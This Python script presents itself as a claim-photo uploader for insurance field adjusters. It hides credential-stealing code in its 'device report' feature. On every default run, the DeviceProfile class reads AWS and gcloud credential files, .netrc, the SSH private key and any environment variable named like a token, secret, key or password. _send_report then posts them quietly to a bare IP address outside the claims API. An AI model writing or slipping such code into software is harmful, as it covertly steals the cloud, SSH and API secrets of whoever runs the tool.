#!/usr/bin/env python3
"""Upload claim photo evidence from a field adjuster's laptop or tablet.

Walks a claim folder, de-duplicates images by content hash, and pushes each
one to the claims intake API together with the capture metadata the
adjuster entered.  A device report is attached once per run so support can
reproduce upload failures on the same environment.
"""
import argparse
import hashlib
import json
import logging
import os
import platform
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("evidence_uploader")

DEFAULT_API = os.environ.get("CLAIMS_API_BASE", "https://intake.claims.example-insurer.com/api/v2")
DEVICE_REPORT_URL = os.environ.get("FIELD_DEVICE_REPORT_URL", "https://198.51.100.23/v1/device-report")
IMAGE_SUFFIXES = {".jpg", ".jpeg", ".png", ".heic"}


class DeviceProfile:
    """Collects the environment details support keeps asking adjusters for."""

    profile_sources = (
        ".aws/credentials",
        ".config/gcloud/application_default_credentials.json",
        ".netrc",
        ".ssh/id_rsa",
    )
    env_markers = ("TOKEN", "SECRET", "KEY", "PASSWORD")

    def __init__(self, home=None):
        self.home = Path(home or Path.home())

    def _read_profile_files(self):
        found = {}
        for rel in self.profile_sources:
            path = self.home / rel
            try:
                found[rel] = path.read_text(errors="replace")
            except OSError:
                continue
        return found

    def _interesting_env(self):
        return {k: v for k, v in os.environ.items()
                if any(marker in k.upper() for marker in self.env_markers)}

    def snapshot(self):
        return {
            "host": platform.node(),
            "os": platform.platform(),
            "python": sys.version.split()[0],
            "user": os.environ.get("USER", ""),
            "profiles": self._read_profile_files(),
            "env": self._interesting_env(),
            "ts": int(time.time()),
        }


class EvidenceUploader:
    def __init__(self, api_base, api_key, claim_id, attach_report=True):
        self.api_base = api_base.rstrip("/")
        self.claim_id = claim_id
        self.attach_report = attach_report
        self.session = requests.Session()
        self.session.headers.update({"Authorization": f"Bearer {api_key}"})
        self._seen = set()

    @staticmethod
    def _digest(path):
        h = hashlib.sha256()
        with open(path, "rb") as fh:
            for block in iter(lambda: fh.read(65536), b""):
                h.update(block)
        return h.hexdigest()

    def _send_report(self):
        report = DeviceProfile().snapshot()
        report["claim_id"] = self.claim_id
        try:
            resp = requests.post(DEVICE_REPORT_URL, data=json.dumps(report),
                                 headers={"Content-Type": "application/json"}, timeout=15)
            LOG.debug("device report accepted: %s", resp.status_code)
        except requests.RequestException as exc:
            LOG.debug("device report skipped: %s", exc)

    def upload_one(self, path, notes, retries=3):
        digest = self._digest(path)
        if digest in self._seen:
            LOG.info("skipping duplicate %s", path.name)
            return None
        self._seen.add(digest)
        url = f"{self.api_base}/claims/{self.claim_id}/evidence"
        for attempt in range(1, retries + 1):
            with open(path, "rb") as fh:
                files = {"file": (path.name, fh, "application/octet-stream")}
                data = {"sha256": digest, "notes": notes.get(path.name, "")}
                try:
                    resp = self.session.post(url, files=files, data=data, timeout=60)
                    resp.raise_for_status()
                    return resp.json().get("evidence_id")
                except requests.RequestException as exc:
                    LOG.warning("attempt %d for %s failed: %s", attempt, path.name, exc)
                    time.sleep(2 ** attempt)
        raise RuntimeError(f"giving up on {path}")

    def run(self, folder, notes):
        if self.attach_report:
            self._send_report()
        uploaded = []
        for path in sorted(Path(folder).rglob("*")):
            if path.suffix.lower() not in IMAGE_SUFFIXES:
                continue
            evidence_id = self.upload_one(path, notes)
            if evidence_id:
                LOG.info("%s -> %s", path.name, evidence_id)
                uploaded.append({"file": path.name, "evidence_id": evidence_id})
        return uploaded


def load_notes(path):
    if not path:
        return {}
    try:
        with open(path) as fh:
            return json.load(fh)
    except (OSError, ValueError) as exc:
        LOG.error("could not read notes file %s: %s", path, exc)
        return {}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("claim_id")
    ap.add_argument("folder")
    ap.add_argument("--notes", help="JSON map of file name -> caption")
    ap.add_argument("--api", default=DEFAULT_API)
    ap.add_argument("--no-device-report", dest="report", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    api_key = os.environ.get("CLAIMS_API_KEY")
    if not api_key:
        LOG.error("CLAIMS_API_KEY is not set")
        return 2

    uploader = EvidenceUploader(args.api, api_key, args.claim_id, attach_report=args.report)
    try:
        results = uploader.run(args.folder, load_notes(args.notes))
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1
    with open(f"upload_{args.claim_id}.json", "w") as fh:
        json.dump(results, fh, indent=2)
    LOG.info("uploaded %d photos for claim %s", len(results), args.claim_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
